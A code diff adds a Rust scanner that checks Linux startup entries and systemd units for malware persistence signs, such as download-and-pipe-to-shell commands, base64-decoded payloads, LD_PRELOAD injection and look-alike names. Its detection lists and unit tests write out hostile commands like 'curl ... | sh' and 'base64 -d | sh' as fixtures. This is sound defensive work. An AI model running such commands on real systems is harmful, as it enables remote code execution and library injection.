@@ -0,0 +1,673 @@
+use crate::exec;
+use crate::launch;
+use crate::services;
+use crate::startup::{self, StartupApp};
+use crate::Error;
+use serde::{Deserialize, Serialize};
+use std::collections::{BTreeSet, HashSet};
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use zen_core::CancelToken;
+
+// Where users and admins put their own units, vendor units under /usr come from packages
+const UNIT_DIRS: [&str; 2] = ["/etc/systemd/system", "/etc/systemd/user"];
+const USER_UNIT_DIRS: [&str; 2] = [".config/systemd/user", ".local/share/systemd/user"];
+
+const TEMP_DIRS: [&str; 4] = ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/user/"];
+
+// Hidden folders that legitimately hold user-installed programs
+const KNOWN_HIDDEN_DIRS: [&str; 7] = [
+    ".local",
+    ".cargo",
+    ".nix-profile",
+    ".var",
+    ".deno",
+    ".bun",
+    ".npm-global",
+];
+
+// Names malware likes to borrow so it blends into a process list
+const SYSTEM_NAMES: [&str; 12] = [
+    "systemd",
+    "dbus",
+    "kworker",
+    "kthreadd",
+    "ksoftirqd",
+    "polkit",
+    "pulseaudio",
+    "pipewire",
+    "gnome-shell",
+    "plasmashell",
+    "xdg-",
+    "at-spi",
+];
+
+// Package-managed programs live here, anything else is expected to be unpackaged
+const SYSTEM_PREFIXES: [&str; 5] = ["/usr/", "/bin/", "/sbin/", "/lib/", "/lib64/"];
+
+#[derive(Debug, Serialize, Deserialize, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+#[serde(rename_all = "lowercase")]
+pub enum Severity {
+    Low,
+    Medium,
+    High,
+}
+
+#[derive(Debug, Serialize, Deserialize, Clone)]
+pub struct Finding {
+    pub key: String, // "app:<path>" or "service:<name>", same keys snapshots use
+    pub name: String,
+    pub path: PathBuf, // Entry or unit file the finding is about
+    pub rule: String,
+    pub severity: Severity,
+    pub explanation: String,
+}
+
+// One autostart entry or unit, reduced to what the rules look at
+struct Target {
+    key: String,
+    name: String,
+    id: String, // File name without extension, what impersonation is judged on
+    path: PathBuf,
+    commands: Vec<String>,
+    env: Vec<(String, String)>,
+}
+
+impl Target {
+    fn finding(&self, rule: &str, severity: Severity, explanation: String) -> Finding {
+        Finding {
+            key: self.key.clone(),
+            name: self.name.clone(),
+            path: self.path.clone(),
+            rule: rule.to_string(),
+            severity,
+            explanation,
+        }
+    }
+}
+
+fn stem(name: &str) -> String {
+    Path::new(name)
+        .file_stem()
+        .map(|s| s.to_string_lossy().to_lowercase())
+        .unwrap_or_default()
+}
+
+// full_command has "env" assignments stripped, the raw Exec still shows them
+fn app_command(app: &StartupApp) -> String {
+    fs::read_to_string(&app.path)
+        .ok()
+        .and_then(|content| startup::extract_value(&content, "Exec"))
+        .unwrap_or_else(|| app.full_command.clone())
+}
+
+/// The program a startup entry runs, past any leading `env` assignments.
+pub fn app_executable(app: &StartupApp) -> Option<PathBuf> {
+    executable(&app_command(app))
+}
+
+fn app_target(app: &StartupApp) -> Target {
+    let command = app_command(app);
+    let (env, _) = launch::split_env(exec::split_exec(&command));
+    Target {
+        key: format!("app:{}", app.path.display()),
+        name: app.name.clone(),
+        id: stem(&app.id),
+        path: app.path.clone(),
+        commands: vec![command],
+        env,
+    }
+}
+
+/// Reads the commands and environment a unit file would run with.
+fn unit_target(path: &Path) -> Option<Target> {
+    let content = fs::read_to_string(path).ok()?;
+    let name = path.file_name()?.to_string_lossy().to_string();
+    let mut commands = Vec::new();
+    let mut env = Vec::new();
+
+    for line in content.lines() {
+        let Some((key, value)) = line.trim().split_once('=') else {
+            continue;
+        };
+        let value = value.trim();
+        if key.trim().starts_with("Exec") {
+            // Drop the "-@:+!" modifiers that may prefix the path
+            commands.push(
+                value
+                    .trim_start_matches(['-', '@', ':', '+', '!'])
+                    .to_string(),
+            );
+        } else if key.trim() == "Environment" {
+            for assignment in exec::split_exec(value) {
+                if let Some((k, v)) = assignment.split_once('=') {
+                    env.push((k.to_string(), v.to_string()));
+                }
+            }
+        }
+    }
+
+    Some(Target {
+        key: format!("service:{}", name),
+        id: stem(&name),
+        name,
+        path: path.to_path_buf(),
+        commands,
+        env,
+    })
+}
+
+fn unit_targets() -> Vec<Target> {
+    let home = dirs::home_dir();
+    let dirs: Vec<PathBuf> = UNIT_DIRS
+        .iter()
+        .map(PathBuf::from)
+        .chain(
+            USER_UNIT_DIRS
+                .iter()
+                .filter_map(|d| home.as_ref().map(|h| h.join(d))),
+        )
+        .collect();
+
+    let mut targets = Vec::new();
+    for dir in dirs {
+        let Ok(entries) = fs::read_dir(&dir) else {
+            continue;
+        };
+        for entry in entries.flatten() {
+            let path = entry.path();
+            // Symlinks here are enablement links or masks, the real file is checked where it lives
+            if path.is_symlink() || path.extension().is_none_or(|e| e != "service") {
+                continue;
+            }
+            targets.extend(unit_target(&path));
+        }
+    }
+    targets
+}
+
+// Ids of things the system itself starts, what a look-alike would imitate
+fn system_ids() -> BTreeSet<String> {
+    let mut ids: BTreeSet<String> = fs::read_dir("/etc/xdg/autostart")
+        .map(|entries| {
+            entries
+                .flatten()
+                .map(|e| stem(&e.file_name().to_string_lossy()))
+                .collect()
+        })
+        .unwrap_or_default();
+    if let Ok(units) = services::get_system_services() {
+        ids.extend(units.iter().map(|s| stem(&s.name)));
+    }
+    ids
+}
+
+fn edit_distance(a: &str, b: &str) -> usize {
+    let b: Vec<char> = b.chars().collect();
+    let mut row: Vec<usize> = (0..=b.len()).collect();
+    for (i, ca) in a.chars().enumerate() {
+        let mut previous = row[0];
+        row[0] = i + 1;
+        for (j, cb) in b.iter().enumerate() {
+            let current = row[j + 1];
+            row[j + 1] = if ca == *cb {
+                previous
+            } else {
+                1 + previous.min(row[j]).min(current)
+            };
+            previous = current;
+        }
+    }
+    row[b.len()]
+}
+
+#[cfg(unix)]
+fn world_writable(path: &Path) -> bool {
+    use std::os::unix::fs::PermissionsExt;
+    fs::metadata(path).is_ok_and(|m| m.permissions().mode() & 0o002 != 0)
+}
+
+#[cfg(not(unix))]
+fn world_writable(_path: &Path) -> bool {
+    false
+}
+
+// What the rules need to know about a file beyond its path, looked up on the system
+#[derive(Debug, Clone, Copy, Default)]
+struct FileFacts {
+    world_writable: bool,
+    packaged: Option<bool>, // Only asked for files among system programs
+}
+
+fn file_facts(path: &Path) -> FileFacts {
+    FileFacts {
+        world_writable: world_writable(path),
+        packaged: is_system_program(path)
+            .then(|| owned_by_package(path))
+            .flatten(),
+    }
+}
+
+/// Asks whichever package manager is installed whether it owns the file.
+/// `None` when there is no package manager we know how to ask.
+pub fn owned_by_package(path: &Path) -> Option<bool> {
+    let queries: [(&str, &[&str]); 3] = [
+        ("dpkg-query", &["-S"]),
+        ("rpm", &["-qf"]),
+        ("pacman", &["-Qo"]),
+    ];
+    let (program, args) = queries
+        .iter()
+        .find(|(program, _)| startup::resolve_executable(program).is_some())?;
+
+    // With merged /usr the database may list either spelling of the path
+    let mut candidates = vec![path.to_path_buf()];
+    match path.strip_prefix("/usr") {
+        Ok(rest) => candidates.push(Path::new("/").join(rest)),
+        Err(_) => candidates.push(Path::new("/usr").join(path.strip_prefix("/").ok()?)),
+    }
+    candidates.extend(fs::canonicalize(path).ok());
+    Some(candidates.iter().any(|candidate| {
+        Command::new(program)
+            .args(*args)
+            .arg(candidate)
+            .output()
+            .is_ok_and(|o| o.status.success())
+    }))
+}
+
+fn check_command(target: &Target, command: &str, findings: &mut Vec<Finding>) {
+    let lower = command.to_lowercase();
+
+    let downloads = [
+        "curl ",
+        "wget ",
+        "invoke-webrequest",
+        "iwr ",
+        "downloadstring",
+    ]
+    .iter()
+    .any(|d| lower.contains(d));
+    let pipes_to_shell = [
+        "| sh", "|sh", "| bash", "|bash", "| python", "| perl", "| iex", "|iex",
+    ]
+    .iter()
+    .any(|p| lower.contains(p));
+    if downloads && pipes_to_shell {
+        findings.push(target.finding(
+            "download-and-run",
+            Severity::High,
+            "Downloads code and runs it straight away, so what starts can change at any time without leaving a file behind.".to_string(),
+        ));
+    }
+
+    let decodes = [
+        "base64 -d",
+        "base64 --decode",
+        "b64decode",
+        "openssl enc -d",
+        "frombase64string",
+        "-encodedcommand",
+        " -enc ",
+    ]
+    .iter()
+    .any(|d| lower.contains(d));
+    if decodes {
+        findings.push(
+            target.finding(
+                "encoded-payload",
+                Severity::High,
+                "Decodes an encoded payload at startup, a common way to hide what actually runs."
+                    .to_string(),
+            ),
+        );
+    }
+
+    if lower.contains("ld_preload=") {
+        findings.push(
+            target.finding(
+                "ld-preload",
+                Severity::High,
+                "Sets LD_PRELOAD on the command line, which injects a library into the program."
+                    .to_string(),
+            ),
+        );
+    }
+}
+
+fn executable(command: &str) -> Option<PathBuf> {
+    let (_, argv) = launch::split_env(exec::split_exec(command));
+    startup::resolve_executable(argv.first()?)
+}
+
+fn is_system_program(exe: &Path) -> bool {
+    let shown = exe.to_string_lossy();
+    SYSTEM_PREFIXES.iter().any(|p| shown.starts_with(p))
+}
+
+fn check_executable(target: &Target, exe: &Path, facts: FileFacts, findings: &mut Vec<Finding>) {
+    let shown = exe.to_string_lossy().to_string();
+
+    if TEMP_DIRS.iter().any(|d| shown.starts_with(d)) || shown.to_lowercase().contains("\\temp\\") {
+        findings.push(target.finding(
+            "temp-location",
+            Severity::High,
+            format!(
+                "Runs {} from a temporary folder, where legitimate software is rarely installed.",
+                shown
+            ),
+        ));
+    }
+
+    let hidden = exe.components().any(|c| {
+        let part = c.as_os_str().to_string_lossy();
+        part.starts_with('.')
+            && part != "."
+            && part != ".."
+            && !KNOWN_HIDDEN_DIRS.contains(&part.as_ref())
+    });
+    if hidden {
+        findings.push(target.finding(
+            "hidden-location",
+            Severity::Medium,
+            format!(
+                "Runs {} from a hidden folder, which keeps it out of sight in file managers.",
+                shown
+            ),
+        ));
+    }
+
+    if facts.world_writable {
+        findings.push(target.finding(
+            "writable-executable",
+            Severity::High,
+            format!(
+                "{} can be modified by any user on this system, so anyone could change what runs.",
+                shown
+            ),
+        ));
+    }
+
+    if is_system_program(exe) && facts.packaged == Some(false) {
+        findings.push(target.finding(
+            "unpackaged",
+            Severity::Low,
+            format!(
+                "{} sits among system programs but no installed package provides it.",
+                shown
+            ),
+        ));
+    }
+}
+
+// The rules themselves only look at strings, whatever they need from the file system
+// comes through `facts`
+fn check_target(
+    target: &Target,
+    system_ids: &BTreeSet<String>,
+    facts: &dyn Fn(&Path) -> FileFacts,
+    findings: &mut Vec<Finding>,
+) {
+    if facts(&target.path).world_writable {
+        findings.push(target.finding(
+            "writable-entry",
+            Severity::High,
+            "Any user on this system can edit this entry and change what starts.".to_string(),
+        ));
+    }
+
+    for (key, value) in &target.env {
+        match key.as_str() {
+            "LD_PRELOAD" => findings.push(target.finding(
+                "ld-preload",
+                Severity::High,
+                format!("Injects {} into the program through LD_PRELOAD.", value),
+            )),
+            "LD_LIBRARY_PATH" => findings.push(target.finding(
+                "library-path",
+                Severity::Medium,
+                format!(
+                    "Makes the program load libraries from {} before the system ones.",
+                    value
+                ),
+            )),
+            _ => {}
+        }
+    }
+
+    let mut executables = Vec::new();
+    for command in &target.commands {
+        check_command(target, command, findings);
+        if let Some(exe) = executable(command) {
+            check_executable(target, &exe, facts(&exe), findings);
+            executables.push(exe);
+        }
+    }
+
+    // Same id is a normal override of the system entry, a near miss is not
+    let look_alike = system_ids.iter().find(|id| {
+        id.len() >= 5 && !system_ids.contains(&target.id) && edit_distance(id, &target.id) <= 2
+    });
+    // The real components all run from system folders
+    let borrowed = SYSTEM_NAMES
+        .iter()
+        .find(|n| target.id.starts_with(*n))
+        .filter(|_| executables.iter().any(|e| !is_system_program(e)));
+    if let Some(original) = look_alike {
+        findings.push(target.finding(
+            "impersonation",
+            Severity::Medium,
+            format!(
+                "Named almost exactly like the system's own \"{}\", which is easy to overlook.",
+                original
+            ),
+        ));
+    } else if let Some(original) = borrowed {
+        findings.push(target.finding(
+            "impersonation",
+            Severity::Medium,
+            format!(
+                "Uses the name of the system component \"{}\" without being part of it.",
+                original
+            ),
+        ));
+    }
+}
+
+/// Checks every startup entry and locally installed unit for patterns malware uses to persist.
+/// Findings are sorted by severity, most severe first. `progress` is called with
+/// (checked, total, item name) before each item.
+pub fn scan_startup_items(
+    progress: impl Fn(usize, usize, &str),
+    cancel: &CancelToken,
+) -> Result<Vec<Finding>, Error> {
+    let mut targets: Vec<Target> = startup::get_startup_apps().iter().map(app_target).collect();
+    if cfg!(target_os = "linux") {
+        targets.extend(unit_targets());
+    }
+    let system_ids = system_ids();
+
+    let mut findings = Vec::new();
+    for (index, target) in targets.iter().enumerate() {
+        cancel.check()?;
+        progress(index, targets.len(), &target.name);
+        check_target(target, &system_ids, &file_facts, &mut findings);
+    }
+    progress(targets.len(), targets.len(), "");
+
+    // Rules can trip twice on the same item, e.g. LD_PRELOAD in both Exec and Environment
+    let mut seen = HashSet::new();
+    findings.retain(|f| seen.insert((f.key.clone(), f.rule.clone())));
+    findings.sort_by(|a, b| {
+        b.severity
+            .cmp(&a.severity)
+            .then_with(|| a.name.cmp(&b.name))
+    });
+    Ok(findings)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn target(id: &str, command: &str) -> Target {
+        Target {
+            key: format!("app:/autostart/{}.desktop", id),
+            name: id.to_string(),
+            id: id.to_string(),
+            path: PathBuf::from(format!("/autostart/{}.desktop", id)),
+            commands: vec![command.to_string()],
+            env: Vec::new(),
+        }
+    }
+
+    fn rules(findings: &[Finding]) -> Vec<String> {
+        findings.iter().map(|f| f.rule.clone()).collect()
+    }
+
+    fn command_rules(command: &str) -> Vec<String> {
+        let mut findings = Vec::new();
+        check_command(&target("entry", command), command, &mut findings);
+        rules(&findings)
+    }
+
+    fn executable_rules(exe: &str, facts: FileFacts) -> Vec<String> {
+        let mut findings = Vec::new();
+        check_executable(&target("entry", exe), Path::new(exe), facts, &mut findings);
+        rules(&findings)
+    }
+
+    fn target_rules(target: &Target, system_ids: &[&str]) -> Vec<String> {
+        let ids = system_ids.iter().map(|id| id.to_string()).collect();
+        let mut findings = Vec::new();
+        check_target(target, &ids, &|_| FileFacts::default(), &mut findings);
+        rules(&findings)
+    }
+
+    #[test]
+    fn flags_temporary_folders() {
+        let facts = FileFacts::default();
+        assert_eq!(executable_rules("/tmp/x/run", facts), ["temp-location"]);
+        assert_eq!(executable_rules("/dev/shm/run", facts), ["temp-location"]);
+        assert!(executable_rules("/opt/app/run", facts).is_empty());
+    }
+
+    #[test]
+    fn flags_hidden_folders_but_not_known_ones() {
+        let facts = FileFacts::default();
+        assert_eq!(
+            executable_rules("/home/u/.cache/.x/run", facts),
+            ["hidden-location"]
+        );
+        assert!(executable_rules("/home/u/.local/bin/run", facts).is_empty());
+        assert!(executable_rules("/home/u/.cargo/bin/run", facts).is_empty());
+    }
+
+    #[test]
+    fn flags_download_and_run() {
+        assert_eq!(
+            command_rules("sh -c 'curl -s https://example.com/x | sh'"),
+            ["download-and-run"]
+        );
+        assert_eq!(
+            command_rules("bash -c \"wget -qO- example.com/i|bash\""),
+            ["download-and-run"]
+        );
+        // Downloading alone, or piping something local, is fine
+        assert!(command_rules("curl -o /tmp/x https://example.com").is_empty());
+        assert!(command_rules("sh -c 'cat script | sh'").is_empty());
+    }
+
+    #[test]
+    fn flags_encoded_payloads() {
+        assert_eq!(
+            command_rules("sh -c 'echo aGk= | base64 -d | sh'"),
+            ["encoded-payload"]
+        );
+        assert_eq!(
+            command_rules("python3 -c 'import base64; exec(base64.b64decode(x))'"),
+            ["encoded-payload"]
+        );
+        assert!(command_rules("app --base64").is_empty());
+    }
+
+    #[test]
+    fn flags_ld_preload_on_the_command_line_and_in_the_environment() {
+        assert_eq!(
+            command_rules("env LD_PRELOAD=/tmp/x.so app"),
+            ["ld-preload"]
+        );
+
+        let mut unit = target("helper", "/opt/helper");
+        unit.env = vec![
+            ("LD_PRELOAD".to_string(), "/tmp/x.so".to_string()),
+            ("LD_LIBRARY_PATH".to_string(), "/tmp/lib".to_string()),
+            ("LANG".to_string(), "C".to_string()),
+        ];
+        assert_eq!(target_rules(&unit, &[]), ["ld-preload", "library-path"]);
+    }
+
+    #[test]
+    fn measures_edit_distance() {
+        assert_eq!(edit_distance("pulseaudio", "pulseaudio"), 0);
+        assert_eq!(edit_distance("pulseaudio", "pulseaudlo"), 1);
+        assert_eq!(edit_distance("pulseaudio", "puls3audi0"), 2);
+        assert_eq!(edit_distance("", "abc"), 3);
+    }
+
+    #[test]
+    fn flags_look_alike_names() {
+        let ids = ["pulseaudio", "tracker-miner-fs"];
+        assert_eq!(
+            target_rules(&target("pulseaudlo", "/opt/x"), &ids),
+            ["impersonation"]
+        );
+        // The same id overrides the system entry, that's expected
+        assert!(target_rules(&target("pulseaudio", "/opt/x"), &ids).is_empty());
+        // Short ids are too close to everything to judge
+        assert!(target_rules(&target("ssh", "/opt/x"), &["sshd"]).is_empty());
+        assert!(target_rules(&target("discord", "/opt/x"), &ids).is_empty());
+    }
+
+    #[test]
+    fn flags_world_writable_files() {
+        let writable = FileFacts {
+            world_writable: true,
+            packaged: None,
+        };
+        assert_eq!(
+            executable_rules("/opt/app/run", writable),
+            ["writable-executable"]
+        );
+
+        let entry = target("app", "/opt/app/run");
+        let mut findings = Vec::new();
+        check_target(&entry, &BTreeSet::new(), &|_| writable, &mut findings);
+        assert_eq!(rules(&findings), ["writable-entry"]);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn reads_world_writable_from_the_mode() {
+        use std::os::unix::fs::PermissionsExt;
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("run");
+        fs::write(&path, "").unwrap();
+        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
+        assert!(!world_writable(&path));
+        fs::set_permissions(&path, fs::Permissions::from_mode(0o777)).unwrap();
+        assert!(world_writable(&path));
+    }
+
+    #[test]
+    fn flags_unpackaged_system_programs() {
+        let unpackaged = FileFacts {
+            world_writable: false,
+            packaged: Some(false),
+        };
+        assert_eq!(executable_rules("/usr/bin/odd", unpackaged), ["unpackaged"]);
+        // Unknown means no package manager to ask, which says nothing
+        assert!(executable_rules("/usr/bin/odd", FileFacts::default()).is_empty());
+    }
+}